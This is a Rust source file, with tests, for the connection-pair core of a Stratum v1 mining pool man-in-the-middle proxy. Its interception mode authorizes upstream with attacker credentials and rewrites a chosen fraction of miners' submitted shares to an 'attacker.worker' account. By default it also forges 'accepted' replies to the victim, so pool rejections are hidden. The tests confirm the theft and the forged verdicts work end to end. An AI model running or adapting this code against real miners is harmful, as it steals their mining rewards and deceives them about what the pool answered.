//! One miner ↔ pool connection pair.
//!
//! The bridge runs two forwarding legs over the pair's sockets, polled
//! concurrently within one task:
//!
//! - **miner → pool** ([`MinerLeg`]): decode, run the miner hook, rewrite
//!   intercepted submits, forward.
//! - **pool → miner** ([`PoolLeg`]): decode, swallow the reply to the
//!   relay's own authorize, restore ids of rewritten submits, run the pool
//!   hook, forward.
//!
//! The miner leg registers each rewritten submit with the pool leg over a
//! channel *before* writing it upstream. The pool leg drains that channel
//! before looking at every frame, so an entry is always in its table by the
//! time the matching response can arrive.
//!
//! Frames that come out of a leg unchanged are forwarded as the exact bytes
//! received. When either leg ends, by EOF, error, or shutdown, the whole
//! pair is torn down.

use std::sync::Arc;

use bytes::Bytes;
use futures::StreamExt;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;
use tokio_util::codec::FramedRead;
use tokio_util::sync::CancellationToken;

use super::correlation::{Correlation, CorrelationTable, IdAllocator, RELAY_AUTH_ID};
use super::policy::RelayPolicy;
use crate::stats::{ConnectionGuard, Stats};
use crate::stratum_v1::{
    DecodeError, LineFramer, Message, StratumResult, decode, encode, method, write_frame,
    write_message,
};
use crate::tracing::prelude::*;

/// Which side ended a pair.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Closed {
    Miner,
    Pool,
}

/// Run a relay pair until either side closes or `shutdown` is cancelled.
///
/// `guard` keeps the pair counted in the stats and is released when the
/// pair ends.
pub async fn run<D, U>(
    downstream: D,
    upstream: U,
    policy: Arc<RelayPolicy>,
    guard: ConnectionGuard,
    shutdown: CancellationToken,
) -> (Closed, StratumResult<()>)
where
    D: AsyncRead + AsyncWrite,
    U: AsyncRead + AsyncWrite,
{
    let (down_rd, down_wr) = tokio::io::split(downstream);
    let (up_rd, mut up_wr) = tokio::io::split(upstream);

    let auth_id = match &policy.interception {
        Some(interception) => {
            let creds = &interception.credentials;
            let authorize = Message::request(
                RELAY_AUTH_ID,
                method::AUTHORIZE,
                json!([creds.username, creds.password]),
            );
            if let Err(e) = write_message(&mut up_wr, &authorize).await {
                return (Closed::Pool, Err(e));
            }
            debug!(worker = %creds.username, "Sent relay authorize upstream");
            Some(RELAY_AUTH_ID)
        }
        None => None,
    };

    let (reg_tx, reg_rx) = mpsc::unbounded_channel();
    let stats = guard.stats().clone();
    let mut miner_leg = MinerLeg::new(policy.clone(), guard, reg_tx, StdRng::from_entropy());
    let mut pool_leg = PoolLeg::new(policy, stats, reg_rx, auth_id);

    let to_pool = pump(down_rd, up_wr, |frame| miner_leg.process(frame), &shutdown);
    let to_miner = pump(up_rd, down_wr, |frame| pool_leg.process(frame), &shutdown);

    tokio::select! {
        result = to_pool => (Closed::Miner, result),
        result = to_miner => (Closed::Pool, result),
    }
}

/// Read frames from `reader`, pass each through `process`, and write what
/// comes out to `writer`, until EOF, an I/O error, or shutdown.
async fn pump<R, W, F>(
    reader: R,
    mut writer: W,
    mut process: F,
    shutdown: &CancellationToken,
) -> StratumResult<()>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
    F: FnMut(Bytes) -> Option<Bytes>,
{
    let mut frames = FramedRead::new(reader, LineFramer::new());

    let result = loop {
        let frame = tokio::select! {
            frame = frames.next() => frame,
            _ = shutdown.cancelled() => break Ok(()),
        };

        match frame {
            None => break Ok(()),
            Some(Err(e)) => break Err(e.into()),
            Some(Ok(frame)) => {
                if let Some(out) = process(frame) {
                    if let Err(e) = write_frame(&mut writer, &out).await {
                        break Err(e.into());
                    }
                }
            }
        }
    };

    let _ = writer.shutdown().await;
    result
}

/// Miner → pool processing.
pub(crate) struct MinerLeg {
    policy: Arc<RelayPolicy>,
    guard: ConnectionGuard,
    ids: IdAllocator,
    registrations: mpsc::UnboundedSender<Correlation>,
    rng: StdRng,
}

impl MinerLeg {
    pub(crate) fn new(
        policy: Arc<RelayPolicy>,
        guard: ConnectionGuard,
        registrations: mpsc::UnboundedSender<Correlation>,
        rng: StdRng,
    ) -> Self {
        Self {
            policy,
            guard,
            ids: IdAllocator::new(),
            registrations,
            rng,
        }
    }

    /// Turn one frame from the miner into the frame to send upstream.
    pub(crate) fn process(&mut self, frame: Bytes) -> Option<Bytes> {
        let msg = match decode(&frame) {
            Ok(msg) => msg,
            Err(e) => return undecodable(&self.policy, self.guard.stats(), frame, e, "miner"),
        };

        match msg.method() {
            Some(method::SUBSCRIBE) => self.guard.subscribed(),
            Some(method::AUTHORIZE) => {
                let worker = msg.params().first().and_then(Value::as_str);
                debug!(worker = ?worker, "Miner authorizing");
                self.guard.authorized();
            }
            Some(method::SUBMIT) => self.guard.stats().share_submitted(),
            _ => {}
        }

        let original = msg.clone();
        let mut msg = (self.policy.hooks.on_miner_message)(msg);
        self.intercept(&mut msg);

        forward(frame, &original, &msg)
    }

    /// Rewrite `msg` in place if it is a submit chosen for interception.
    fn intercept(&mut self, msg: &mut Message) {
        let Some(interception) = &self.policy.interception else {
            return;
        };
        if msg.method() != Some(method::SUBMIT) {
            return;
        }
        let Some(downstream_id) = msg.id() else {
            return;
        };

        let ratio = if interception.steal_ratio.is_nan() {
            0.0
        } else {
            interception.steal_ratio.clamp(0.0, 1.0)
        };
        if !self.rng.gen_bool(ratio) {
            return;
        }

        let Some(params) = msg.params_mut() else {
            return;
        };
        let Some(worker) = params.first_mut() else {
            return;
        };
        let victim = std::mem::replace(worker, Value::String(interception.credentials.username.clone()));

        let upstream_id = self.ids.next_id();
        msg.set_id(Some(upstream_id));

        let _ = self.registrations.send(Correlation {
            upstream_id,
            downstream_id,
            force_accept: interception.force_accept,
        });
        self.guard.stats().share_stolen();

        info!(
            victim = %victim,
            worker = %interception.credentials.username,
            downstream_id,
            upstream_id,
            "Intercepted share"
        );
    }
}

/// Pool → miner processing.
pub(crate) struct PoolLeg {
    policy: Arc<RelayPolicy>,
    stats: Arc<Stats>,
    table: CorrelationTable,
    registrations: mpsc::UnboundedReceiver<Correlation>,
    auth_id: Option<u64>,
}

impl PoolLeg {
    pub(crate) fn new(
        policy: Arc<RelayPolicy>,
        stats: Arc<Stats>,
        registrations: mpsc::UnboundedReceiver<Correlation>,
        auth_id: Option<u64>,
    ) -> Self {
        Self {
            policy,
            stats,
            table: CorrelationTable::new(),
            registrations,
            auth_id,
        }
    }

    /// Turn one frame from the pool into the frame to send to the miner.
    pub(crate) fn process(&mut self, frame: Bytes) -> Option<Bytes> {
        while let Ok(entry) = self.registrations.try_recv() {
            self.table.insert(entry);
        }

        let mut msg = match decode(&frame) {
            Ok(msg) => msg,
            Err(e) => return undecodable(&self.policy, &self.stats, frame, e, "pool"),
        };

        if let (true, Some(id)) = (msg.is_response(), msg.id()) {
            if Some(id) == self.auth_id {
                if msg.result().and_then(Value::as_bool).unwrap_or(false) {
                    info!("Upstream accepted relay credentials");
                } else {
                    warn!(error = ?msg.error(), "Upstream refused relay credentials");
                }
                return None;
            }

            if let Some(entry) = self.table.take(id) {
                msg.set_id(Some(entry.downstream_id));
                if entry.force_accept {
                    debug!(verdict = ?msg.result(), error = ?msg.error(), "Forcing acceptance");
                    msg.force_accept();
                }
                let msg = (self.policy.hooks.on_pool_message)(msg);
                return encode_or(frame, &msg);
            }
        }

        let original = msg.clone();
        let msg = (self.policy.hooks.on_pool_message)(msg);
        forward(frame, &original, &msg)
    }
}

/// Decide what to do with a frame that did not decode.
fn undecodable(
    policy: &RelayPolicy,
    stats: &Stats,
    frame: Bytes,
    error: DecodeError,
    from: &'static str,
) -> Option<Bytes> {
    stats.undecodable_frame();
    if policy.strict {
        warn!(from, error = %error, "Dropping undecodable frame");
        None
    } else {
        debug!(from, error = %error, "Forwarding undecodable frame unchanged");
        Some(frame)
    }
}

/// Forward the original bytes unless the message was changed.
fn forward(frame: Bytes, original: &Message, msg: &Message) -> Option<Bytes> {
    if msg == original {
        Some(frame)
    } else {
        encode_or(frame, msg)
    }
}

fn encode_or(frame: Bytes, msg: &Message) -> Option<Bytes> {
    match encode(msg) {
        Ok(bytes) => Some(Bytes::from(bytes)),
        Err(e) => {
            warn!(error = %e, "Failed to encode rewritten message, forwarding original");
            Some(frame)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::correlation::RELAY_ID_BASE;
    use super::super::policy::Credentials;
    use super::*;
    use tokio::io::{DuplexStream, ReadHalf, WriteHalf};

    fn attacker() -> Credentials {
        Credentials {
            username: "attacker.worker".to_string(),
            password: "x".to_string(),
        }
    }

    fn legs(policy: RelayPolicy, seed: u64) -> (MinerLeg, PoolLeg, Arc<Stats>) {
        let policy = Arc::new(policy);
        let stats = Stats::new();
        let (tx, rx) = mpsc::unbounded_channel();
        let auth_id = policy.interception.as_ref().map(|_| RELAY_AUTH_ID);
        let miner = MinerLeg::new(
            policy.clone(),
            stats.track_connection(),
            tx,
            StdRng::seed_from_u64(seed),
        );
        let pool = PoolLeg::new(policy, stats.clone(), rx, auth_id);
        (miner, pool, stats)
    }

    fn submit_frame(id: u64, worker: &str) -> Bytes {
        Bytes::from(format!(
            r#"{{"id":{},"method":"mining.submit","params":["{}","1","00000001","504e86b9","deadbeef"]}}"#,
            id, worker
        ))
    }

    #[test]
    fn test_ratio_zero_passes_every_share_through() {
        let (mut miner, _pool, stats) = legs(RelayPolicy::share_stealing(attacker(), 0.0), 1);

        for id in 0..100 {
            let frame = submit_frame(id, "victim.worker");
            assert_eq!(miner.process(frame.clone()), Some(frame));
        }
        assert_eq!(stats.snapshot().shares_stolen, 0);
        assert_eq!(stats.snapshot().shares_submitted, 100);
    }

    #[test]
    fn test_ratio_one_substitutes_every_share() {
        let (mut miner, _pool, stats) = legs(RelayPolicy::share_stealing(attacker(), 1.0), 1);

        let mut upstream_ids = std::collections::HashSet::new();
        for id in 0..100 {
            let out = decode(&miner.process(submit_frame(id, "victim.worker")).unwrap()).unwrap();
            assert_eq!(out.params()[0], "attacker.worker");
            assert!(out.id().unwrap() > RELAY_ID_BASE);
            assert!(upstream_ids.insert(out.id().unwrap()));
        }
        assert_eq!(stats.snapshot().shares_stolen, 100);
    }

    #[test]
    fn test_partial_ratio_leaves_unstolen_shares_untouched() {
        let (mut miner, _pool, stats) = legs(RelayPolicy::share_stealing(attacker(), 0.5), 42);

        let mut stolen = 0;
        for id in 0..200 {
            let frame = submit_frame(id, "victim.worker");
            let out = miner.process(frame.clone()).unwrap();
            if out == frame {
                continue;
            }
            let msg = decode(&out).unwrap();
            assert_eq!(msg.params()[0], "attacker.worker");
            stolen += 1;
        }
        assert!(stolen > 0 && stolen < 200, "stolen {}", stolen);
        assert_eq!(stats.snapshot().shares_stolen, stolen);
    }

    #[test]
    fn test_concurrent_stolen_submits_route_back_independently() {
        let (mut miner, mut pool, _stats) = legs(RelayPolicy::credential_theft(attacker()), 1);

        let first = decode(&miner.process(submit_frame(5, "victim.worker")).unwrap()).unwrap();
        let second = decode(&miner.process(submit_frame(6, "victim.worker")).unwrap()).unwrap();
        assert_ne!(first.id(), second.id());

        // Pool answers out of order
        let reply = encode(&Message::response(second.id(), json!(false))).unwrap();
        let out = decode(&pool.process(Bytes::from(reply)).unwrap()).unwrap();
        assert_eq!(out, Message::response(Some(6), json!(true)));

        let reply = encode(&Message::error_response(first.id(), 23, "Low difficulty")).unwrap();
        let out = decode(&pool.process(Bytes::from(reply)).unwrap()).unwrap();
        assert_eq!(out, Message::response(Some(5), json!(true)));
    }

    #[test]
    fn test_stolen_share_keeps_extra_members_both_ways() {
        let (mut miner, mut pool, _stats) = legs(RelayPolicy::credential_theft(attacker()), 1);

        let frame = Bytes::from_static(
            br#"{"jsonrpc":"2.0","id":5,"method":"mining.submit","params":["victim.worker","1","00000001","504e86b9","deadbeef"]}"#,
        );
        let upstream: Value = serde_json::from_slice(&miner.process(frame).unwrap()).unwrap();
        assert_eq!(upstream["jsonrpc"], "2.0");
        assert_eq!(upstream["params"][0], "attacker.worker");

        let reply = format!(
            r#"{{"jsonrpc":"2.0","id":{},"result":false,"error":null}}"#,
            upstream["id"]
        );
        let downstream: Value = serde_json::from_slice(&pool.process(Bytes::from(reply)).unwrap()).unwrap();
        assert_eq!(
            downstream,
            json!({"jsonrpc": "2.0", "id": 5, "result": true, "error": null})
        );
    }

    #[test]
    fn test_honest_verdicts_keep_pool_result() {
        let policy = RelayPolicy::credential_theft(attacker()).with_honest_verdicts();
        let (mut miner, mut pool, _stats) = legs(policy, 1);

        let stolen = decode(&miner.process(submit_frame(5, "victim.worker")).unwrap()).unwrap();
        let reply = encode(&Message::response(stolen.id(), json!(false))).unwrap();
        let out = decode(&pool.process(Bytes::from(reply)).unwrap()).unwrap();
        assert_eq!(out, Message::response(Some(5), json!(false)));
    }

    #[test]
    fn test_relay_authorize_reply_is_swallowed() {
        let (_miner, mut pool, _stats) = legs(RelayPolicy::credential_theft(attacker()), 1);

        let reply = encode(&Message::response(Some(RELAY_AUTH_ID), json!(true))).unwrap();
        assert_eq!(pool.process(Bytes::from(reply)), None);
    }

    #[test]
    fn test_uncorrelated_traffic_passes_byte_for_byte() {
        let (mut miner, mut pool, _stats) = legs(RelayPolicy::credential_theft(attacker()), 1);

        // Odd spacing would not survive a re-encode
        let notify = Bytes::from_static(b"{ \"id\": null, \"method\": \"mining.set_difficulty\", \"params\": [8] }");
        assert_eq!(pool.process(notify.clone()), Some(notify));

        let subscribe = Bytes::from_static(b"{\"id\":1, \"method\":\"mining.subscribe\",\"params\":[]}\r");
        assert_eq!(miner.process(subscribe.clone()), Some(subscribe));
    }

    #[test]
    fn test_undecodable_frames_forwarded_unless_strict() {
        let (mut miner, mut pool, stats) = legs(RelayPolicy::transparent(), 1);
        let junk = Bytes::from_static(b"\xffnot json{");
        assert_eq!(miner.process(junk.clone()), Some(junk.clone()));
        assert_eq!(pool.process(junk.clone()), Some(junk.clone()));
        assert_eq!(stats.snapshot().undecodable_frames, 2);

        let (mut miner, _pool, _stats) = legs(RelayPolicy::transparent().with_strict(true), 1);
        assert_eq!(miner.process(junk), None);
    }

    #[test]
    fn test_hooks_rewrite_both_directions() {
        let policy = RelayPolicy::transparent()
            .on_miner_message(|mut msg| {
                if let Some(params) = msg.params_mut() {
                    params.push(json!("extra"));
                }
                msg
            })
            .on_pool_message(|mut msg| {
                msg.force_accept();
                msg
            });
        let (mut miner, mut pool, _stats) = legs(policy, 1);

        let out = decode(&miner.process(Bytes::from_static(
            br#"{"id":1,"method":"mining.subscribe","params":[]}"#,
        ))
        .unwrap())
        .unwrap();
        assert_eq!(out.params(), &[json!("extra")]);

        let reply = encode(&Message::response(Some(2), json!(false))).unwrap();
        let out = decode(&pool.process(Bytes::from(reply)).unwrap()).unwrap();
        assert_eq!(out.result(), Some(&json!(true)));
    }

    /// Test-side view of one end of a duplex pipe.
    struct Peer {
        frames: FramedRead<ReadHalf<DuplexStream>, LineFramer>,
        writer: WriteHalf<DuplexStream>,
    }

    impl Peer {
        fn new(stream: DuplexStream) -> Self {
            let (rd, wr) = tokio::io::split(stream);
            Self {
                frames: FramedRead::new(rd, LineFramer::new()),
                writer: wr,
            }
        }

        async fn send_raw(&mut self, frame: &[u8]) {
            write_frame(&mut self.writer, frame).await.unwrap();
        }

        async fn send(&mut self, msg: &Message) {
            self.send_raw(&encode(msg).unwrap()).await;
        }

        async fn recv_raw(&mut self) -> Option<Bytes> {
            self.frames.next().await.map(|f| f.unwrap())
        }

        async fn recv(&mut self) -> Message {
            decode(&self.recv_raw().await.unwrap()).unwrap()
        }
    }

    fn spawn_pair(policy: RelayPolicy) -> (Peer, Peer, tokio::task::JoinHandle<(Closed, StratumResult<()>)>) {
        let (miner, relay_down) = tokio::io::duplex(4096);
        let (relay_up, pool) = tokio::io::duplex(4096);
        let stats = Stats::new();
        let handle = tokio::spawn(run(
            relay_down,
            relay_up,
            Arc::new(policy),
            stats.track_connection(),
            CancellationToken::new(),
        ));
        (Peer::new(miner), Peer::new(pool), handle)
    }

    #[tokio::test]
    async fn test_credential_substitution_end_to_end() {
        let (mut miner, mut pool, _handle) = spawn_pair(RelayPolicy::credential_theft(attacker()));

        let auth = pool.recv().await;
        assert_eq!(auth.id(), Some(RELAY_AUTH_ID));
        assert_eq!(auth.method(), Some(method::AUTHORIZE));
        assert_eq!(auth.params(), &[json!("attacker.worker"), json!("x")]);
        pool.send(&Message::response(Some(RELAY_AUTH_ID), json!(true))).await;

        miner
            .send(&Message::request(
                5,
                method::SUBMIT,
                json!(["victim.worker", "1", "00000001", "504e86b9", "deadbeef"]),
            ))
            .await;

        let upstream = pool.recv().await;
        assert_eq!(upstream.params()[0], "attacker.worker");
        assert_ne!(upstream.id(), Some(5));
        pool.send(&Message::response(upstream.id(), json!(false))).await;

        // The authorize reply never reaches the miner; the forged verdict does
        assert_eq!(miner.recv().await, Message::response(Some(5), json!(true)));
    }

    #[tokio::test]
    async fn test_sniffer_is_byte_transparent() {
        let (mut miner, mut pool, _handle) = spawn_pair(RelayPolicy::transparent());

        miner.send_raw(b"not json at all {").await;
        miner.send_raw(br#"{"id":1,"method":"mining.subscribe","params":["rig"]}"#).await;
        assert_eq!(pool.recv_raw().await.unwrap(), Bytes::from_static(b"not json at all {"));
        assert_eq!(
            pool.recv_raw().await.unwrap(),
            Bytes::from_static(br#"{"id":1,"method":"mining.subscribe","params":["rig"]}"#)
        );

        pool.send_raw(br#"{"id":1,"result":[[["mining.notify","ab"]],"08000002",4],"error":null}"#)
            .await;
        assert_eq!(
            miner.recv_raw().await.unwrap(),
            Bytes::from_static(br#"{"id":1,"result":[[["mining.notify","ab"]],"08000002",4],"error":null}"#)
        );
    }

    #[tokio::test]
    async fn test_pool_disconnect_tears_down_pair() {
        let (mut miner, pool, handle) = spawn_pair(RelayPolicy::transparent());

        drop(pool);
        let (closed, result) = handle.await.unwrap();
        assert_eq!(closed, Closed::Pool);
        assert!(result.is_ok());
        assert!(miner.recv_raw().await.is_none());
    }

    #[tokio::test]
    async fn test_miner_disconnect_tears_down_pair() {
        let (miner, mut pool, handle) = spawn_pair(RelayPolicy::transparent());

        drop(miner);
        let (closed, _) = handle.await.unwrap();
        assert_eq!(closed, Closed::Miner);
        assert!(pool.recv_raw().await.is_none());
    }
}
